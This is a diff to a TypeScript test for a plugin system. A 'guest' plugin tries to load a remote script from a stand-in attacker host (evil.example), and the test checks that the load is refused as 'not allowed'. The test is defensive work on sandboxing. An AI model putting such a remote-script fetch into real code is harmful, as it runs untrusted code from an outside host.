@@ -81,7 +81,7 @@ describe('the test kit', () => {
     const outcome = new Promise<unknown>((resolve) => {
       taproot.use({
         name: 'guest',
-        apply: ({ helpers }) => void helpers().then(({ loadScript }) => loadScript('https://evil.example/x.js').catch(resolve)),
+        apply: ({ loadScript }) => void loadScript('https://evil.example/x.js').catch(resolve),
       });
     });
     expect(String(await outcome)).toContain('not allowed');
